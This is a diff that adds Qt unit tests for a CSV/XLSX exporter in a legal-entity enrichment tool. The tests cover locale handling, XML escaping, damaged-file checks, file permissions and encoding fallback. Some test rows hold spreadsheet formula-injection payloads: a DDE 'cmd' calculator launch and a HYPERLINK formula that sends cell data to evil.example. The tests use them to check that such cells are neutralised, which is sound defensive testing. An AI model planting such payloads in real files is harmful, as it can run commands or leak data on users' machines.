@@ -8,11 +8,18 @@
 
 #include <QFile>
 #include <QFileInfo>
+#include <QJsonArray>
+#include <QScopeGuard>
 #include <QSignalSpy>
 #include <QStandardPaths>
 #include <QStringEncoder>
 #include <QTemporaryDir>
 #include <QTest>
+#include <QXmlStreamReader>
+
+#include <clocale>
+#include <sys/stat.h>
+#include <unistd.h>
 
 // What the exporters write, read back byte by byte (CSV) or entry by entry (XLSX).
 class ExporterTest final : public QObject
@@ -28,8 +35,33 @@ private Q_SLOTS:
     void unwritableFolder();
     void xlsxHasNumbersFrozenHeaderAndFailures();
     void xlsxRefusesTooManyRows();
+    void xlsxNumbersInTheCLocale();
+    void xlsxCellTextIsXmlSafe_data();
+    void xlsxCellTextIsXmlSafe();
+    void checkXlsxFindsDamage_data();
+    void checkXlsxFindsDamage();
+    void exportsKeepModeAndLinks_data();
+    void exportsKeepModeAndLinks();
+    void formulaRule_data();
+    void formulaRule();
+    void gleifFormulasNeutralisedInCsvOnly();
+    void inputFormulasNeutralisedOnRequest();
+    void windows1252FallsBackToUtf8();
 
 private:
+    // Makes the fake answer `legalName` for `lei` until the returned guard goes.
+    auto legalNameFor(const QString &lei, const QString &legalName)
+    {
+        const QJsonObject original = m_fake.record(lei);
+        QJsonObject record = original, attributes = record[u"attributes"].toObject(),
+                    entity = attributes[u"entity"].toObject(), name = entity[u"legalName"].toObject();
+        name[u"name"] = legalName;
+        entity[u"legalName"] = name;
+        attributes[u"entity"] = entity;
+        record[u"attributes"] = attributes;
+        m_fake.addRecord(record);
+        return qScopeGuard([this, original] { m_fake.addRecord(original); });
+    }
     QString write(const QByteArray &bytes, const QString &name) { return writeTestFile(m_dir.path(), name, bytes); }
     std::shared_ptr<const EnrichmentResults> enrich(const std::shared_ptr<CsvFile> &file);
     static QByteArray read(const QString &path) { return readTestFile(path); }
@@ -210,6 +242,277 @@ void ExporterTest::xlsxRefusesTooManyRows()
     QVERIFY2(error.contains(QStringLiteral("do not fit in an XLSX sheet")), qPrintable(error));
     QVERIFY(!QFileInfo::exists(out));
     QCOMPARE(QDir(m_dir.path()).entryList({QStringLiteral(".huge*")}, QDir::Files | QDir::Hidden).size(), 0);
+}
+
+namespace {
+
+// The sheet's XML must parse: an ill-formed sheet is what Excel calls a damaged file.
+QString xmlError(const QByteArray &xml)
+{
+    QXmlStreamReader reader(xml);
+    while (!reader.atEnd())
+        reader.readNext();
+    return reader.hasError() ? reader.errorString() : QString();
+}
+
+} // namespace
+
+void ExporterTest::xlsxNumbersInTheCLocale()
+{
+    // The application object sets the locale from the environment; under de_DE, printf writes
+    // a decimal comma. packaging/install-deps.sh installs de_DE.UTF-8: no skipping.
+    const QByteArray previous = std::setlocale(LC_ALL, nullptr);
+    const auto restore = qScopeGuard([previous] { std::setlocale(LC_ALL, previous.constData()); });
+    QVERIFY2(std::setlocale(LC_ALL, "de_DE.UTF-8"), "the de_DE.UTF-8 locale is missing: run packaging/install-deps.sh");
+    QCOMPARE(std::localeconv()->decimal_point, ",");
+
+    QString error;
+    auto file = CsvFile::load(write("amount,notional,rate,lei\n0.5,763000,0.0070956,XKZZ2JZF41MRHTR1V493\n",
+                                    QStringLiteral("de.csv")), {}, &error);
+    QVERIFY2(file, qPrintable(error));
+    auto results = enrich(file);
+    QVERIFY(results);
+    const QString out = m_dir.filePath(QStringLiteral("de.xlsx"));
+    QVERIFY2(Exporter::writeXlsx(*file, results.get(), out, &error), qPrintable(error));
+    const auto zip = readZip(out, &error);
+    const QByteArray sheet = zip.value(QStringLiteral("xl/worksheets/sheet1.xml"));
+    QVERIFY2(sheet.contains("<v>0.5</v>"), sheet.constData());
+    QVERIFY(sheet.contains("<v>0.0070956</v>"));
+    QVERIFY(sheet.contains("<v>-757586.0572") || sheet.contains("<v>-757586.05720000004</v>"));
+    QVERIFY2(sheet.contains("<pageMargins left=\"0.7\""), sheet.constData()); // libxlsxwriter's own doubles too
+    QVERIFY(!sheet.contains(",5</v>"));
+    // The CSV cost text is the shortest round trip, whatever the locale.
+    const QString csv = m_dir.filePath(QStringLiteral("de.out.csv"));
+    QVERIFY2(Exporter::writeCsv(*file, results.get(), csv, &error), qPrintable(error));
+    QVERIFY(read(csv).contains(",-757586.0572,ok\n"));
+    // The export left the locale of the program as it was.
+    QCOMPARE(std::localeconv()->decimal_point, ",");
+}
+
+void ExporterTest::xlsxCellTextIsXmlSafe_data()
+{
+    QTest::addColumn<QByteArray>("cell");     // UTF-8, as in the input file
+    QTest::addColumn<QByteArray>("expected"); // the <t> element's text in sheet1.xml
+    QTest::newRow("U+FFFE") << QByteArray("a\xEF\xBF\xBE" "b") << QByteArray("a\xEF\xBF\xBD" "b");
+    QTest::newRow("U+FFFF") << QByteArray("a\xEF\xBF\xBF" "b") << QByteArray("a\xEF\xBF\xBD" "b");
+    QTest::newRow("a literal _x0041_") << QByteArray("_x0041_") << QByteArray("_x005F_x0041_");
+    QTest::newRow("lower-case hex") << QByteArray("id_x00e9_z") << QByteArray("id_x005F_x00e9_z");
+    QTest::newRow("not an escape") << QByteArray("_x12_ _xZZZZ_") << QByteArray("_x12_ _xZZZZ_");
+    QTest::newRow("control character (libxlsxwriter)") << QByteArray("a\x01" "b") << QByteArray("a_x0001_b");
+    QTest::newRow("U+FFFD and e-acute kept") << QByteArray("\xEF\xBF\xBD\xC3\xA9") << QByteArray("\xEF\xBF\xBD\xC3\xA9");
+}
+
+void ExporterTest::xlsxCellTextIsXmlSafe()
+{
+    QFETCH(QByteArray, cell);
+    QFETCH(QByteArray, expected);
+    QString error;
+    // The same text as a header name goes through the converted (not byte) path.
+    auto file = CsvFile::load(write("lei," + cell + "\nbad," + cell + "\n", QStringLiteral("xml.csv")), {}, &error);
+    QVERIFY2(file, qPrintable(error));
+    const QString out = m_dir.filePath(QStringLiteral("xml.xlsx"));
+    QVERIFY2(Exporter::writeXlsx(*file, nullptr, out, &error), qPrintable(error));
+    const auto zip = readZip(out, &error);
+    const QByteArray sheet = zip.value(QStringLiteral("xl/worksheets/sheet1.xml"));
+    QVERIFY2(xmlError(sheet).isEmpty(), qPrintable(xmlError(sheet)));
+    QCOMPARE(sheet.count(QByteArray("<t>" + expected + "</t>")), 2);
+}
+
+void ExporterTest::checkXlsxFindsDamage_data()
+{
+    QTest::addColumn<QByteArray>("zip");
+    QTest::addColumn<QString>("problem"); // empty: whole
+    const QByteArray types = "<?xml version=\"1.0\"?>\n<Types xmlns=\"x\"><Default/></Types>";
+    const QByteArray book = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n<workbook><sheets/></workbook>";
+    const QByteArray sheet = "<?xml version=\"1.0\"?>\n<worksheet><sheetData><row r=\"1\"/></sheetData></worksheet>\n";
+    auto zip = [&](const QByteArray &s) {
+        return makeZip({{QStringLiteral("[Content_Types].xml"), types}, {QStringLiteral("xl/workbook.xml"), book},
+                        {QStringLiteral("xl/worksheets/sheet1.xml"), s}});
+    };
+    QTest::newRow("whole") << zip(sheet) << QString();
+    QTest::newRow("sheet cut before it was zipped") << zip(sheet.left(sheet.indexOf("</sheetData>")))
+                                                    << QStringLiteral("xl/worksheets/sheet1.xml is cut short");
+    QTest::newRow("part not XML") << zip("sheet data") << QStringLiteral("xl/worksheets/sheet1.xml is cut short");
+    QTest::newRow("file cut") << zip(sheet).chopped(30) << QStringLiteral("no ZIP central directory");
+    QTest::newRow("sheet missing") << makeZip({{QStringLiteral("[Content_Types].xml"), types}, {QStringLiteral("xl/workbook.xml"), book}})
+                                   << QStringLiteral("xl/worksheets/sheet1.xml is missing");
+    QTest::newRow("empty") << QByteArray() << QStringLiteral("not a ZIP file");
+}
+
+void ExporterTest::checkXlsxFindsDamage()
+{
+    QFETCH(QByteArray, zip);
+    QFETCH(QString, problem);
+    QString why;
+    QCOMPARE(Exporter::checkXlsx(write(zip, QStringLiteral("check.xlsx")), &why), problem.isEmpty());
+    QVERIFY2(why.startsWith(problem), qPrintable(why));
+}
+
+void ExporterTest::exportsKeepModeAndLinks_data()
+{
+    QTest::addColumn<QString>("suffix");
+    QTest::addColumn<QString>("target"); // "new", "existing", "symlink"
+    for (const char *suffix : {"csv", "xlsx"})
+        for (const char *target : {"new", "existing", "symlink"})
+            QTest::addRow("%s, %s file", suffix, target) << QString::fromLatin1(suffix) << QString::fromLatin1(target);
+}
+
+void ExporterTest::exportsKeepModeAndLinks()
+{
+    QFETCH(QString, suffix);
+    QFETCH(QString, target);
+    QString error;
+    auto file = CsvFile::load(write("lei\nbad\n", QStringLiteral("mode.csv")), {}, &error);
+    QVERIFY2(file, qPrintable(error));
+    const mode_t previousMask = ::umask(027);
+    const auto restore = qScopeGuard([previousMask] { ::umask(previousMask); });
+    auto modeOf = [](const QString &p) {
+        struct stat st{};
+        return ::lstat(QFile::encodeName(p).constData(), &st) == 0 ? int(st.st_mode & 07777) : -1;
+    };
+
+    QTemporaryDir dir;
+    const QString out = dir.filePath(QStringLiteral("out.") + suffix);
+    const QString real = dir.filePath(QStringLiteral("real.") + suffix);
+    int expectedMode = 0640; // 0666 less the umask
+    if (target == u"existing") {
+        writeTestFile(dir.path(), QStringLiteral("out.") + suffix, "old");
+        QVERIFY(::chmod(QFile::encodeName(out).constData(), 0600) == 0);
+        expectedMode = 0600;
+    } else if (target == u"symlink") {
+        writeTestFile(dir.path(), QStringLiteral("real.") + suffix, "old");
+        QVERIFY(::chmod(QFile::encodeName(real).constData(), 0604) == 0);
+        QVERIFY(QFile::link(real, out));
+        expectedMode = 0604;
+    }
+    QVERIFY2(Exporter::write(*file, nullptr, out, &error), qPrintable(error));
+    if (target == u"symlink") {
+        QVERIFY2(QFileInfo(out).isSymLink(), "the link was replaced by a file");
+        QCOMPARE(QFileInfo(out).symLinkTarget(), real);
+        QVERIFY(read(real) != "old");
+        QCOMPARE(modeOf(real), expectedMode);
+    } else {
+        QCOMPARE(modeOf(out), expectedMode);
+    }
+    QVERIFY(read(out).size() > 40);
+    // Only the export itself is left in the folder.
+    QCOMPARE(QDir(dir.path()).entryList(QDir::Files | QDir::Hidden | QDir::System).size(), target == u"symlink" ? 2 : 1);
+}
+
+void ExporterTest::formulaRule_data()
+{
+    QTest::addColumn<QString>("text");
+    QTest::addColumn<bool>("formula");
+    QTest::newRow("=") << QStringLiteral("=HYPERLINK(\"http://x/?\"&A1)") << true;
+    QTest::newRow("+") << QStringLiteral("+cmd|' /C calc'!A0") << true;
+    QTest::newRow("-") << QStringLiteral("-2+3+cmd|' /C calc'!A0") << true;
+    QTest::newRow("@") << QStringLiteral("@SUM(A1:A2)") << true;
+    QTest::newRow("tab") << QStringLiteral("\t=1") << true;
+    QTest::newRow("CR") << QStringLiteral("\r=1") << true;
+    QTest::newRow("lone minus") << QStringLiteral("-") << true;
+    QTest::newRow("minus then exponent only") << QStringLiteral("-1e") << true;
+    QTest::newRow("negative number") << QStringLiteral("-757586.0572") << false;
+    QTest::newRow("decimal comma") << QStringLiteral("-1.234,5") << false;
+    QTest::newRow("plus exponent") << QStringLiteral("+1.5E-7") << false;
+    QTest::newRow("plain text") << QStringLiteral("ABN AMRO Bank N.V.") << false;
+    QTest::newRow("= later") << QStringLiteral("a=b") << false;
+    QTest::newRow("empty") << QString() << false;
+}
+
+void ExporterTest::formulaRule()
+{
+    QFETCH(QString, text);
+    QFETCH(bool, formula);
+    QCOMPARE(Exporter::isFormulaLike(text), formula);
+    QCOMPARE(Exporter::isFormulaLike(QByteArrayView(text.toUtf8())), formula);
+    QCOMPARE(Exporter::neutraliseFormula(text), formula ? QLatin1Char('\'') + text : text);
+}
+
+void ExporterTest::gleifFormulasNeutralisedInCsvOnly()
+{
+    const QString evil = QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A2,\"Citi\")");
+    const auto restore = legalNameFor(QStringLiteral("XKZZ2JZF41MRHTR1V493"), evil);
+    QString error;
+    auto file = CsvFile::load(write("notional,rate,lei,note\n763000,0.0070956,XKZZ2JZF41MRHTR1V493,=1+2\n",
+                                    QStringLiteral("evil.csv")), {}, &error);
+    QVERIFY2(file, qPrintable(error));
+    auto results = enrich(file);
+    QVERIFY(results);
+    const QString csv = m_dir.filePath(QStringLiteral("evil.out.csv"));
+    QVERIFY2(Exporter::writeCsv(*file, results.get(), csv, &error), qPrintable(error));
+    // GLEIF's text gets its ', the cost (negative) does not, the input's own cells are untouched.
+    QCOMPARE(read(csv).split('\n').value(1),
+             QByteArray("763000,0.0070956,XKZZ2JZF41MRHTR1V493,=1+2,"
+                        "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"Citi\"\")\",SBILGB2LXXX,GB,-757586.0572,ok"));
+    // XLSX writes text as text: an inline string, no formula, nothing added.
+    const QString xlsx = m_dir.filePath(QStringLiteral("evil.xlsx"));
+    QVERIFY2(Exporter::writeXlsx(*file, results.get(), xlsx, &error), qPrintable(error));
+    const QByteArray sheet = readZip(xlsx, &error).value(QStringLiteral("xl/worksheets/sheet1.xml"));
+    QVERIFY2(sheet.contains("t=\"inlineStr\"><is><t>=HYPERLINK(\"http://evil.example/?\"&amp;A2,\"Citi\")</t>"), sheet.constData());
+    QVERIFY(sheet.contains("<t>=1+2</t>"));
+    QVERIFY(!sheet.contains("<f>"));
+}
+
+void ExporterTest::inputFormulasNeutralisedOnRequest()
+{
+    const QByteArray input = "lei,a;b,note\n"
+                             "bad,=1+2,-5\n"
+                             "bad,\"@x,y\",+1 555 0100\n"
+                             "bad,\"\"\"=quoted\",-2+3\n";
+    QString error;
+    auto file = CsvFile::load(write(input, QStringLiteral("own.csv")), {}, &error);
+    QVERIFY2(file, qPrintable(error));
+    const QString out = m_dir.filePath(QStringLiteral("own.out.csv"));
+    // Off (the default): the input's bytes go out as they came.
+    QVERIFY2(Exporter::writeCsv(*file, nullptr, out, &error), qPrintable(error));
+    QVERIFY(read(out).startsWith("lei,a;b,note,legalName"));
+    QCOMPARE(read(out).split('\n').mid(1, 3),
+             (QList<QByteArray>{"bad,=1+2,-5,,,,,pending", "bad,\"@x,y\",+1 555 0100,,,,,pending",
+                                "bad,\"\"\"=quoted\",-2+3,,,,,pending"}));
+    Exporter::Options options;
+    options.neutraliseInputFormulas = true;
+    QVERIFY2(Exporter::writeCsv(*file, nullptr, out, &error, {}, options), qPrintable(error));
+    QCOMPARE(read(out).split('\n').mid(1, 3),
+             (QList<QByteArray>{"bad,'=1+2,-5,,,,,pending", "bad,\"'@x,y\",'+1 555 0100,,,,,pending",
+                                "bad,\"\"\"=quoted\",'-2+3,,,,,pending"}));
+}
+
+void ExporterTest::windows1252FallsBackToUtf8()
+{
+    const auto restore = legalNameFor(QStringLiteral("BFXS5XCH7N0Y05NIXW11"), QStringLiteral("Sp\u00f3\u0142ka \u20ac"));
+    QString error;
+    auto file = CsvFile::load(write("caf\xe9,notional,rate,lei\n\xe9\x80,1,1,BFXS5XCH7N0Y05NIXW11\n", QStringLiteral("pl.csv")), {}, &error);
+    QVERIFY2(file, qPrintable(error));
+    QCOMPARE(file->dialect().encoding, CsvEncoding::Windows1252);
+    auto results = enrich(file);
+    QVERIFY(results);
+    const QString out = m_dir.filePath(QStringLiteral("pl.out.csv"));
+    QStringList notices;
+    Exporter::Options options;
+    options.notices = &notices;
+    QVERIFY2(Exporter::writeCsv(*file, results.get(), out, &error, {}, options), qPrintable(error));
+    // UTF-8 with a BOM, the input's own Windows-1252 bytes transcoded too.
+    QCOMPARE(read(out), QByteArray("\xEF\xBB\xBF" "caf\xC3\xA9,notional,rate,lei,legalName,bic,country,transaction_costs,enrichment_status\n"
+                                   "\xC3\xA9\xE2\x82\xAC,1,1,BFXS5XCH7N0Y05NIXW11,Sp\xC3\xB3\xC5\x82ka \xE2\x82\xAC,"
+                                   "ABNANL2AXXX;BETHDEF1XXX;GSLANL21XXX;KBWFNL21XXX;VSBVNL21XXX;ZEELNL21XXX,NL,0.0,ok\n"));
+    QCOMPARE(notices.size(), 1);
+    QVERIFY2(notices[0].startsWith(out + QStringLiteral(": ")) && notices[0].contains(QStringLiteral("UTF-8"))
+                 && notices[0].contains(QStringLiteral("\u0142")), qPrintable(notices[0]));
+    // The file reads back as the same text.
+    auto back = CsvFile::load(out, {}, &error);
+    QVERIFY2(back, qPrintable(error));
+    QCOMPARE(back->cell(0, 0), QStringLiteral("\u00e9\u20ac"));
+    QCOMPARE(back->cell(0, 4), QStringLiteral("Sp\u00f3\u0142ka \u20ac"));
+
+    // Text that fits stays Windows-1252, without a notice.
+    notices.clear();
+    const auto fits = legalNameFor(QStringLiteral("BFXS5XCH7N0Y05NIXW11"), QStringLiteral("Caf\u00e9 \u20ac"));
+    results = enrich(file);
+    QVERIFY(results);
+    QVERIFY2(Exporter::writeCsv(*file, results.get(), out, &error, {}, options), qPrintable(error));
+    QVERIFY(read(out).startsWith("caf\xe9,"));
+    QVERIFY(read(out).contains(",Caf\xe9 \x80,"));
+    QVERIFY(notices.isEmpty());
 }
 
 QTEST_GUILESS_MAIN(ExporterTest)
